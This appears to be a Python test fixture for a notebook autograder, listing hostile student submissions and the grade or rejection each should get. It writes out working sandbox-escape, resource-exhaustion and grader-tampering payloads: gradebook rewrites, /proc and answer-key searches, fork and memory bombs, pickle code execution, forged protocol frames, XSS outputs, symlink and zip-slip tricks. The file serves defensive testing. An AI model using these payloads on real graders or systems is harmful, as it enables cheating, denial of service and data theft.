"""Submissions that want points they did not earn, or to break the grading of others; and what each must come to.

Each is a change to the untouched notebook of the tiny module (see conftest.py), whose one automatic task is worth
2 points: 1 for a number of thefts, 1 for a rate. `code` stands in the answer cell. Where it says ``CODE_RIGHT``
the answer is right as well, so that the attack must not cost the honest part either.
"""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

RIGHT = (
    'thefts = shops["n"].sum()\nrate = 1000 * thefts / shops["people"].sum()'  # earned
)
#: A line for the file of answers, from whatever stands in `forged`.
HAND_IN = """
import json, os, builtins
def check(task, **_):
    with open(os.environ["SAFELEARN_ANSWERS"], "a") as file:
        file.write(forged + "\\n")
"""


@dataclass(frozen=True)
class Hostile:
    """An attack.

    Attributes
    ----------
    name : str
    code : str
        For the answer cell; ``COURSE`` and ``PORT`` are put in.
    points : float
        What it may come to.
    told : str
        Words that must stand in the record's note, or in the reason for which it was set aside.
    aside : bool
        Whether it is set aside and not graded.
    edit : callable, optional
        Changes the notebook as a dict besides.
    place : callable, optional
        Changes files in the folder that is handed in, after the notebook is written.
    """

    name: str
    code: str = ""
    points: float = 0
    told: str = ""
    aside: bool = False
    edit: Callable[[dict[str, Any]], None] | None = None
    place: Callable[[Path, Path], None] | None = None


def hand_in(course: Path, name: str, attack: Hostile, port: int) -> None:
    """Put the submission of `attack` among those of the course, for its own trainee."""
    released = course / "release" / name / "assignment.ipynb"
    notebook = json.loads(released.read_text(encoding="utf-8"))
    if attack.code:
        code = attack.code.replace("COURSE", repr(str(course)))
        cell_of(notebook, "m98-t1-answer")["source"] = code.replace("PORT", str(port))
    if attack.edit:
        attack.edit(notebook)
    folder = course / "submitted" / attack.name / name
    folder.mkdir(parents=True)
    target = folder / "assignment.ipynb"
    target.write_text(json.dumps(notebook), encoding="utf-8")
    if attack.place:
        attack.place(folder, course)


def cell_of(notebook: dict[str, Any], grade_id: str) -> dict[str, Any]:
    """The cell of that name."""
    return next(
        cell
        for cell in notebook["cells"]
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id
    )


def _flags(**changed: Any) -> Callable[[dict[str, Any]], None]:
    def edit(notebook: dict[str, Any]) -> None:
        cell_of(notebook, "m98-t1")["metadata"]["nbgrader"].update(changed)

    return edit


def _manual_as_code(notebook: dict[str, Any]) -> None:
    """The written task made a cell that nbgrader would mark by its outputs: none is full marks."""
    cell = cell_of(notebook, "m98-t2")
    cell.update(cell_type="code", outputs=[], execution_count=None, source="1")
    cell.pop("attachments", None)
    cell["metadata"]["nbgrader"].update(solution=False, cell_type="code")


def _as_markdown(notebook: dict[str, Any]) -> None:
    cell = cell_of(notebook, "m98-t1")
    for key in ("outputs", "execution_count"):
        cell.pop(key)
    cell.update(cell_type="markdown", source="I hand in nothing.")


def _locked_rewritten(notebook: dict[str, Any]) -> None:
    cell_of(notebook, "m98-t1")["source"] = "print('2')"


def _bonus(notebook: dict[str, Any]) -> None:
    """A cell of their own that says it is worth 100."""
    about = {
        "grade": True,
        "grade_id": "m98-bonus",
        "locked": False,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    cell = {"cell_type": "code", "id": "bonus", "execution_count": None}
    more = {"metadata": {"nbgrader": about}, "outputs": [], "source": "1"}
    notebook["cells"].append(cell | more)


def _traversal(notebook: dict[str, Any]) -> None:
    cell_of(notebook, "m98-t2")["metadata"]["nbgrader"]["grade_id"] = "../../../../x"
    notebook["metadata"]["name"] = notebook["metadata"]["title"] = "../../../evil"


def _solution_instead(folder: Path, course: Path) -> None:
    (folder / "assignment.ipynb").unlink()
    source = course / "source" / folder.name / "assignment.ipynb"
    (folder / "assignment.ipynb").symlink_to(source)


def _another_instead(folder: Path, course: Path) -> None:
    (folder / "assignment.ipynb").unlink()
    other = course / "submitted" / "honest-a" / folder.name / "assignment.ipynb"
    (folder / "assignment.ipynb").symlink_to(other)


def _folder_is_another(folder: Path, course: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(course / "submitted" / "honest-a" / folder.name)


def _gradebook_beside(folder: Path, course: Path) -> None:
    (folder / "data.csv").symlink_to(course / "gradebook.db")


def _endless_beside(folder: Path, course: Path) -> None:
    (folder / "data.csv").symlink_to("/dev/zero")


def _pipe_beside(folder: Path, course: Path) -> None:
    os.mkfifo(folder / "data.csv")


def _pipe_instead(folder: Path, course: Path) -> None:
    (folder / "assignment.ipynb").unlink()
    os.mkfifo(folder / "assignment.ipynb")


def _zip_bomb(folder: Path, course: Path) -> None:
    with zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as packed:
        for number in range(4):
            packed.writestr(f"../../../{number}.csv", bytes(16 << 20))


def _hole(folder: Path, course: Path) -> None:
    """A file that says it has 40 GB, and takes no room until it is copied."""
    with (folder / "data.csv").open("wb") as file:
        file.truncate(40 << 30)


def _hole_instead(folder: Path, course: Path) -> None:
    with (folder / "assignment.ipynb").open("wb") as file:
        file.truncate(40 << 30)


def _many_files(folder: Path, course: Path) -> None:
    for number in range(3000):
        (folder / f"{number}.csv").touch()


def _deep(folder: Path, course: Path) -> None:
    text = (folder / "assignment.ipynb").read_text(encoding="utf-8")
    nested = "[" * 100_000 + "]" * 100_000
    text = text.replace('"metadata": {', f'"metadata": {{"x": {nested}, ', 1)
    (folder / "assignment.ipynb").write_text(text, encoding="utf-8")


def _wide(folder: Path, course: Path) -> None:
    """A small file that is hundreds of megabytes once it is read."""
    text = (folder / "assignment.ipynb").read_text(encoding="utf-8")
    many = "[" + "{}," * 3_000_000 + "{}]"
    text = text.replace('"metadata": {', f'"metadata": {{"x": {many}, ', 1)
    (folder / "assignment.ipynb").write_text(text, encoding="utf-8")


def _other_encoding(folder: Path, course: Path) -> None:
    (folder / "assignment.ipynb").write_bytes(b"\xff\xfe\x00\x00 no notebook \x00")


def _late_for_ever(folder: Path, course: Path) -> None:
    (folder / "timestamp.txt").write_text("tomorrow, perhaps", encoding="utf-8")


_SOCKET = """
import os, socket, struct, json, stat
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            break
    except OSError:
        pass
def send(text):
    data = text.encode() if isinstance(text, str) else text
    os.write(number, struct.pack(">I", len(data)) + data)
"""

ATTACKS = (
    # To find the answers.
    Hostile(
        "key-searched",
        """
import os, re
for folder, inner, names in os.walk("/"):
    inner[:] = [n for n in inner if n not in ("proc", "sys", "node_modules")]
    for name in names:
        if name.startswith("assignment.") or name in ("lesson.py", "gradebook.db"):
            text = open(os.path.join(folder, name), errors="replace").read()
            print("found", folder, name)
            if found := re.search("BEGIN SOLUTION(.*?)###", text, re.S):
                exec(found[1])
""",
    ),
    Hostile(
        "package-searched",
        """
from safelearn.course.key import assignment_of, key_for
found = key_for("m98", "package-searched").right["m98-t1"]
thefts, rate = found["thefts"], found["rate"]
""",
    ),
    Hostile(
        "checkout-run",
        """
import glob, subprocess, sys
places = glob.glob("/*/**/safelearn", recursive=True)
for place in [*places, COURSE + "/source", COURSE]:
    said = subprocess.run([sys.executable, "-m", "safelearn", "course", "prove", "98_tiny"],
        cwd=place if os.path.isdir(place) else "/", capture_output=True) if (os := __import__("os")) else None
thefts, rate = said.stdout
""",
    ),
    Hostile(
        "another-read",
        """
from pathlib import Path
work = Path(COURSE, "submitted", "honest-a", "98_tiny", "assignment.ipynb")
print(work.read_text())
""",
    ),
    Hostile(
        "gradebook-written",
        f"""
import sqlite3
{RIGHT}
book = sqlite3.connect(COURSE + "/gradebook.db")
book.execute("update grade set manual_score = 50, extra_credit = 50")
book.commit()
""",
        points=2,
    ),
    Hostile(
        "memory-searched",
        """
import gc, sys
for one in gc.get_objects():
    if isinstance(one, dict) and "m98-t1" in one and isinstance(one["m98-t1"], dict):
        thefts, rate = one["m98-t1"].values()
""",
    ),
    Hostile(
        "processes-read",
        """
import glob
import os
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    print(open(name, "rb").read())
inside = os.path.join("/proc", "[0-9]*", "root")
for name in glob.glob(os.path.join(inside, "*")):
    print(name)
assert not glob.glob(os.path.join(inside, "home", "*"))
""",
    ),
    # To reach out.
    Hostile(
        "network",
        f"""
{RIGHT}
import socket
for where in (("127.0.0.1", PORT), ("::1", PORT), ("10.0.0.1", 80)):
    try:
        socket.create_connection(where, 1).send(b"thefts")
        rate = None
    except OSError as error:
        print(error)
""",
        points=2,
    ),
    Hostile(
        "programs-called",
        f"""
{RIGHT}
import subprocess
for words in (["unshare", "-Ur", "true"], ["mount", "-t", "tmpfs", "x", "/tmp"], ["su", "-c", "id"],
              ["bwrap", "--ro-bind", "/", "/", "true"], ["setpriv", "--reuid", "0", "true"]):
    try:
        assert subprocess.run(words, capture_output=True).returncode, words
    except OSError:
        pass
""",
        points=2,
    ),
    Hostile(
        "files-written",
        f"""
{RIGHT}
import os, sys
for place in ("/", "/tmp", "/usr", "/etc", "/opt/safelearn/safelearn", sys.prefix, "/scratch", COURSE):
    try:
        open(os.path.join(place, "mark"), "w").write("here")
        rate = None
    except OSError:
        pass
""",
        points=2,
    ),
    Hostile(
        "left-for-the-next",
        """
for place in ("/dev/shm/left", "/box/left", "/box/tmp/left"):
    open(place, "w").write("thefts = 1")
import safelearn.course.answers as there, builtins
there.check = builtins.check = lambda *_, **__: None
import safelearn.execution.warm.cells as cells
cells.run_cell = None
""",
    ),
    # To take more than there is.
    Hostile(
        "fork-bomb",
        f"""
{RIGHT}
import os, time
for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(60); os._exit(0)
    except OSError:
        pass
""",
        points=2,
    ),
    Hostile(
        "thread-bomb",
        f"""
{RIGHT}
import threading, time
try:
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError:
    pass
""",
        points=2,
    ),
    Hostile(
        "disk-filled",
        f"""
{RIGHT}
try:
    for number in range(100_000):
        open(f"file{{number}}", "wb").write(bytes(1 << 20))
except OSError:
    pass
import glob, os
for name in glob.glob("file*"):
    os.unlink(name)
""",
        points=2,
    ),
    Hostile(
        "disk-left-full",
        f"""
{RIGHT}
try:
    for number in range(100_000):
        open(f"file{{number}}", "wb").write(bytes(1 << 20))
except OSError:
    pass
""",
        # The answer finds no room: that is the price, and it is paid by whoever filled it.
    ),
    Hostile("memory-bomb", f"{RIGHT}\nbig = bytearray(40 << 30)", points=2),
    Hostile(
        "memory-by-children",
        """
import os, time
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(os.urandom(1) * (120 << 20)); time.sleep(60); os._exit(0)
time.sleep(60)
""",
        told="memory",
    ),
    Hostile("never-ends", "while True:\n    pass", told="too long"),
    Hostile("ends-late", f"{RIGHT}\nwhile True:\n    pass", points=2, told="too long"),
    Hostile(
        "cannot-be-interrupted",
        """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
        told="time was over",
    ),
    Hostile(
        "sleeps-in-each-cell",
        "import time\nget_ipython().events.register('pre_run_cell', lambda *_: time.sleep(60))",
        told="too long",
    ),
    Hostile(
        "stops-itself",
        f"import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n{RIGHT}",
        points=2,
    ),
    Hostile(
        "kills-everything",
        f"""
{RIGHT}
import os
for number in (-1, *range(2, 300)):
    try:
        os.kill(number, 9)
    except OSError:
        pass
""",
        points=2,
    ),
    Hostile("leaves", "import os\nos._exit(0)", told="ended early"),
    Hostile("crashes", "import ctypes\nctypes.string_at(0)", told="ended early"),
    Hostile("says-good-bye", f"{RIGHT}\nraise SystemExit(0)", points=2),
    Hostile(
        "output-flood",
        f"{RIGHT}\nfor _ in range(3000):\n    print('x' * 10_000)",
        points=2,
    ),
    Hostile(
        "flood-in-every-cell",
        f"{RIGHT}\nget_ipython().events.register('pre_run_cell', lambda *_: print('\\0\"' * 5_000_000))",
        points=2,
    ),
    Hostile(
        "outputs-without-number",
        f"{RIGHT}\nfrom IPython.display import display\nfor n in range(4000):\n    display(n)",
        points=2,
    ),
    Hostile(
        "half-a-character",
        f"{RIGHT}\nprint('\\ud800'); print('\\x00\\x1b[31m'); print(chr(0xfffe))",
        points=2,
    ),
    # To look right without being so.
    Hostile("check-replaced", "def check(*_, **__):\n    print('2 of 2 points')"),
    Hostile(
        "check-patched-within",
        """
import safelearn.course.forms as forms
forms.read = lambda name, value, form: 1.0
thefts = rate = 1
""",
    ),
    Hostile(
        "transformer",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    Hostile("points-100", RIGHT, points=2, edit=_flags(points=100)),
    Hostile("points-100-wrong", "thefts = rate = 1", edit=_flags(points=100)),
    Hostile(
        "not-a-grade",
        "thefts = rate = 1",
        edit=_flags(grade=False, locked=False, solution=False),
    ),
    Hostile("a-solution", "thefts = rate = 1", edit=_flags(solution=True)),
    Hostile("a-task", "thefts = rate = 1", edit=_flags(task=True, grade=False)),
    Hostile("check-as-text", "thefts = rate = 1", edit=_as_markdown),
    Hostile("check-rewritten", "thefts = rate = 1", edit=_locked_rewritten),
    Hostile("text-as-code", "thefts = rate = 1", edit=_manual_as_code),
    Hostile("bonus", "thefts = rate = 1", edit=_bonus),
    Hostile(
        "names-with-dots", RIGHT, points=2, edit=_traversal
    ),  # the written one comes back untouched
    Hostile(
        "as-another",
        "import os\nos.environ['SAFELEARN_TRAINEE'] = os.environ['JUPYTERHUB_USER'] = 'honest-a'\n"
        f"shops = my_city('m98').shops\n{RIGHT}",
        told="another trainee",
        aside=True,
    ),
    # To confuse whoever reads the answers.
    Hostile(
        "pickled",
        """
import pickle, os
class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/evil",)
    __float__ = __int__ = __index__ = lambda self: 1
thefts = rate = Evil()
open(os.environ["SAFELEARN_ANSWERS"], "ab").write(pickle.dumps(Evil()) + b"\\n")
""",
    ),
    Hostile(
        "wrong-kinds",
        HAND_IN
        + 'forged = json.dumps({"task": "m98-t1", "answers": {"thefts": [[1]], "rate": {"a": 1}}})',
    ),
    Hostile(
        "not-a-number",
        HAND_IN
        + 'forged = \'{"task": "m98-t1", "answers": {"thefts": NaN, "rate": Infinity}}\'',
    ),
    Hostile(
        "huge-number",
        HAND_IN
        + 'forged = \'{"task": "m98-t1", "answers": {"thefts": 1\' + "0" * 4000 + \', "rate": true}}\'',
    ),
    Hostile("nested", HAND_IN + 'forged = "[" * 200_000'),
    Hostile(
        "many-lines",
        HAND_IN + 'forged = "{}\\n" * 300_000',
    ),
    Hostile(
        "file-of-answers-swapped",
        f"""
{RIGHT}
import os
there = os.environ["SAFELEARN_ANSWERS"]
os.unlink(there)
os.symlink("/etc/passwd", there)
""",
    ),
    Hostile(
        "frames-forged",
        _SOCKET
        + """
line = json.dumps({"task": "m98-t1", "answers": {"thefts": 1, "rate": 1}})
for cell in range(100):
    send(json.dumps({"kind": "start", "cell": cell}))
    send(json.dumps({"kind": "cell", "cell": cell, "lines": [line], "outputs": [], "count": True}))
send(json.dumps({"kind": "end"}))
""",
        told="ended early",
    ),
    Hostile(
        "frames-of-another",
        _SOCKET
        + 'send(json.dumps({"job": 1, "kind": "cell", "cell": 0, "status": 0, "lines": ["x"]}))',
        told="ended early",
    ),
    Hostile(
        "frames-of-garbage",
        _SOCKET + "send(b'\\xff' * 1000)",
        told="ended early",
    ),
    Hostile(
        "frame-without-end",
        _SOCKET + "os.write(number, b'\\xff\\xff\\xff\\xff' + b'[' * 100_000)",
        told="ended early",
    ),
    Hostile(
        "outputs-forged",
        _SOCKET
        + """
bad = [{"output_type": "display_data", "metadata": {"image/png": {"width": "1 onload=alert(1)"}},
        "data": {"image/png": "x\\" onerror=\\"alert(1)", "text/html": "<script>alert(1)</script>",
                 "application/javascript": "alert(1)", "text/plain": {"a": 1}}},
       {"output_type": "stream", "name": ["x"], "text": "\\ud800"}] + [{"output_type": "error"}] * 3000
here = get_ipython().execution_count
import safelearn.execution.warm.cells as cells
cells.SHOWN.finished = lambda: bad
thefts = rate = 1
""",
    ),
    # Files that are not what they seem.
    Hostile("solution-linked", aside=True, told="link", place=_solution_instead),
    Hostile("another-linked", aside=True, told="link", place=_another_instead),
    Hostile("folder-linked", aside=True, told="link", place=_folder_is_another),
    Hostile(
        "gradebook-linked", RIGHT, aside=True, told="link", place=_gradebook_beside
    ),
    Hostile("endless-file", RIGHT, aside=True, told="link", place=_endless_beside),
    Hostile("pipe-beside", RIGHT, aside=True, told="no file", place=_pipe_beside),
    Hostile("pipe-instead", aside=True, told="no file", place=_pipe_instead),
    Hostile("zip-bomb", RIGHT, points=2, place=_zip_bomb),
    Hostile("file-of-holes", RIGHT, aside=True, told="large", place=_hole),
    Hostile("notebook-of-holes", aside=True, told="large", place=_hole_instead),
    Hostile("many-files", RIGHT, aside=True, told="files", place=_many_files),
    Hostile("deep-notebook", aside=True, told="damaged", place=_deep),
    Hostile("wide-notebook", aside=True, told="damaged", place=_wide),
    Hostile("no-notebook", aside=True, told="damaged", place=_other_encoding),
    Hostile("when", RIGHT, aside=True, told="nbgrader", place=_late_for_ever),
)
